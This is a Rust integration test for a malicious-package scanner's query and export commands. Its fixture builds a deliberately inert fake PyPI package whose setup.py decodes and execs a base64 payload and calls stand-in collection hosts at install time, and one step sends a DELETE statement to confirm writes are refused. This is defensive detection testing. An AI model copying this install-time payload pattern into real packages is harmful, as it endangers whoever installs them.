//! `ossprey query` and `ossprey export` on analyses saved by `ossprey scan --store`:
//! a malicious and a benign package go in; the malicious one, and only it, comes
//! back out of `query --verdict malicious` and `export --format osv`, and every
//! export validates against its official schema.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use ossprey_testkit::archives;
use serde_json::Value;

mod common;
use common::schema::validate;

fn ossprey(args: &[&str], cache: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ossprey"))
        .args(args)
        .env("OSSPREY_CACHE_DIR", cache)
        .env_remove("OSSPREY_DB")
        .output()
        .expect("run ossprey")
}

fn ok(out: &Output) -> &[u8] {
    assert_eq!(
        out.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    &out.stdout
}

/// An inert imitation of the commonest malicious sdist shape: a decoded payload
/// evaluated by setup.py at install time, posting to a collection URL.
fn malicious_sdist(dir: &Path) -> PathBuf {
    let path = dir.join("evil-1.0.tar.gz");
    let bytes = archives::tar_gz(&[
        ("evil-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"),
        (
            "evil-1.0/setup.py",
            b"import base64\nfrom setuptools import setup\nexec(base64.b64decode('cHJpbnQoMSk='))\nimport urllib.request\nurllib.request.urlopen('https://collect.evil-example.net/k')\nurllib.request.urlopen('http://203.0.113.9:8080/p')\nsetup(name='evil')\n",
        ),
    ]);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// Scans both packages into the database at `db` and checks everything `query` and
/// `export` give back. Shared by the SQLite and PostgreSQL tests.
fn scan_then_query_and_export(db: &str, dir: &Path) {
    let cache = dir.join("cache");
    let (evil, plain) = (malicious_sdist(dir), common::benign_sdist(dir));
    ok(&ossprey(
        &[
            "scan",
            evil.to_str().unwrap(),
            plain.to_str().unwrap(),
            "--format",
            "json",
            "--store",
            "--db",
            db,
        ],
        &cache,
    ));

    // query --verdict malicious: exactly the malicious package.
    let out = ossprey(
        &[
            "query",
            "--db",
            db,
            "--verdict",
            "malicious",
            "--format",
            "json",
        ],
        &cache,
    );
    let found: Value = serde_json::from_slice(ok(&out)).unwrap();
    let found = found.as_array().unwrap();
    assert_eq!(found.len(), 1, "{found:#?}");
    let stored = &found[0]["report"];
    assert_eq!(stored["package"]["name"], "evil");
    assert_eq!(stored["verdict"], "malicious");
    assert!(found[0]["id"].as_i64().is_some());
    assert!(found[0]["created_at"].as_str().unwrap().ends_with('Z'));

    // Other filters narrow the same way; text output names the package.
    let text = ossprey(
        &["query", "--db", db, "--rule", "EXEC-DECODED-PAYLOAD"],
        &cache,
    );
    let text = String::from_utf8(ok(&text).to_vec()).unwrap();
    assert!(
        text.contains("pypi:evil@1.0") && !text.contains("plain"),
        "{text}"
    );
    let lines = ossprey(
        &[
            "query",
            "--db",
            db,
            "--package",
            "pypi:plain",
            "--format",
            "jsonl",
        ],
        &cache,
    );
    let lines = String::from_utf8(ok(&lines).to_vec()).unwrap();
    assert_eq!(lines.lines().count(), 1, "{lines}");
    assert!(lines.contains("\"benign\""));
    let none = ossprey(
        &[
            "query",
            "--db",
            db,
            "--verdict",
            "malicious",
            "--until",
            "2000-01-01",
            "--format",
            "jsonl",
        ],
        &cache,
    );
    assert!(ok(&none).is_empty());
    // Pivoting on indicators: a parent domain matches its subdomains; IPs exactly.
    for (flag, value) in [("--domain", "evil-example.net"), ("--ip", "203.0.113.9")] {
        let out = ossprey(
            &["query", "--db", db, flag, value, "--format", "jsonl"],
            &cache,
        );
        let out = String::from_utf8(ok(&out).to_vec()).unwrap();
        assert_eq!(out.lines().count(), 1, "{flag} {value}: {out}");
        assert!(out.contains("\"name\":\"evil\""), "{flag} {value}: {out}");
    }
    let out = ossprey(
        &[
            "query",
            "--db",
            db,
            "--domain",
            "example.net",
            "--format",
            "jsonl",
        ],
        &cache,
    );
    assert!(
        ok(&out).is_empty(),
        "a domain is not a suffix of another's label"
    );

    // export --format osv: one MAL- report, valid OSV, reasons and indicators.
    let out = ossprey(&["export", "--db", db, "--format", "osv"], &cache);
    let osv: Value = serde_json::from_slice(ok(&out)).unwrap();
    let osv = osv.as_array().unwrap();
    assert_eq!(
        osv.len(),
        1,
        "only the malicious package gets an OSV report"
    );
    let doc = &osv[0];
    validate(doc, include_str!("schemas/osv-schema.json"), "OSV");
    assert!(doc["id"].as_str().unwrap().starts_with("MAL-"));
    assert_eq!(doc["affected"][0]["package"]["ecosystem"], "PyPI");
    assert_eq!(doc["affected"][0]["package"]["name"], "evil");
    assert_eq!(doc["affected"][0]["versions"][0], "1.0");
    assert!(
        doc["details"]
            .as_str()
            .unwrap()
            .contains("EXEC-DECODED-PAYLOAD")
    );
    assert_eq!(
        doc["database_specific"]["iocs"]["domains"],
        serde_json::json!(["collect.evil-example.net"])
    );
    assert_eq!(
        doc["database_specific"]["iocs"]["ips"],
        serde_json::json!(["203.0.113.9"])
    );
    // Published is the analysis's stored time, so re-exports are identical.
    let again = ossprey(&["export", "--db", db, "--format", "osv"], &cache);
    assert_eq!(ok(&again), ok(&out));

    // The same into a directory laid out like malicious-packages.
    let osv_dir = dir.join("osv-out");
    ok(&ossprey(
        &[
            "export",
            "--db",
            db,
            "--format",
            "osv",
            "--out",
            osv_dir.to_str().unwrap(),
        ],
        &cache,
    ));
    let id = doc["id"].as_str().unwrap();
    let file = osv_dir.join("pypi").join("evil").join(format!("{id}.json"));
    let from_file: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(&from_file, doc);

    // export --format jsonl: one line per analysis, reference names, round trip.
    let out = ossprey(&["export", "--db", db, "--format", "jsonl"], &cache);
    let records: Vec<Value> = String::from_utf8(ok(&out).to_vec())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 2);
    let evil_record = records
        .iter()
        .find(|r| r["Package"]["Name"] == "evil")
        .unwrap();
    assert_eq!(evil_record["Package"]["Ecosystem"], "pypi");
    assert_eq!(evil_record["Package"]["Version"], "1.0");
    assert!(evil_record["CreatedTimestamp"].as_i64().unwrap() > 1_700_000_000);
    assert_eq!(
        evil_record["Analysis"],
        serde_json::json!({}),
        "scan: no phases"
    );
    assert_eq!(evil_record["Ossprey"]["findings"], stored["findings"]);
    assert_eq!(evil_record["Ossprey"]["verdict"], "malicious");
    assert_eq!(evil_record["Ossprey"]["analysis_id"], found[0]["id"]);

    // export --format sarif: valid SARIF 2.1.0 with the malicious package's findings.
    let out = ossprey(&["export", "--db", db, "--format", "sarif"], &cache);
    let sarif: Value = serde_json::from_slice(ok(&out)).unwrap();
    validate(
        &sarif,
        include_str!("schemas/sarif-2.1.0-rtm.5.json"),
        "SARIF",
    );
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"] == "EXEC-DECODED-PAYLOAD")
    );

    // Raw SQL: reads work, writes are refused and change nothing.
    let out = ossprey(
        &[
            "query",
            "--db",
            db,
            "--sql",
            "SELECT count(*) AS n FROM analyses",
            "--format",
            "json",
        ],
        &cache,
    );
    let rows: Value = serde_json::from_slice(ok(&out)).unwrap();
    assert_eq!(rows[0]["n"], 2, "{rows}");
    let write = ossprey(
        &["query", "--db", db, "--sql", "DELETE FROM analyses"],
        &cache,
    );
    assert_eq!(write.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&write.stderr);
    assert!(stderr.contains("read-only"), "{stderr}");
    let out = ossprey(
        &[
            "query",
            "--db",
            db,
            "--sql",
            "SELECT count(*) AS n FROM analyses",
            "--format",
            "jsonl",
        ],
        &cache,
    );
    let row: Value = serde_json::from_slice(ok(&out)).unwrap();
    assert_eq!(row["n"], 2);
}

#[test]
fn sqlite_query_and_exports_return_exactly_the_malicious_package() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("ossprey.db").display());
    scan_then_query_and_export(&db, dir.path());
}

#[test]
fn bad_filters_are_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}", dir.path().join("ossprey.db").display());
    let cache = dir.path().join("cache");
    for args in [
        vec!["query", "--db", &db, "--since", "yesterday"],
        vec!["query", "--db", &db, "--sha256", "abc"],
        vec!["query", "--db", &db, "--verdict", "evil"],
        vec![
            "query",
            "--db",
            &db,
            "--sql",
            "SELECT 1",
            "--verdict",
            "malicious",
        ],
        vec!["export", "--db", &db, "--format", "csv"],
    ] {
        let out = ossprey(&args, &cache);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(!out.stderr.is_empty());
    }
}

#[test]
fn postgres_query_and_exports_return_exactly_the_malicious_package() {
    let server = match ossprey_testkit::postgres::PgServer::start() {
        Ok(server) => server,
        Err(why) => {
            eprintln!("SKIP: {why}");
            return;
        }
    };
    let db = server.create_database("query_export").unwrap();
    let dir = tempfile::tempdir().unwrap();
    scan_then_query_and_export(&db, dir.path());
}
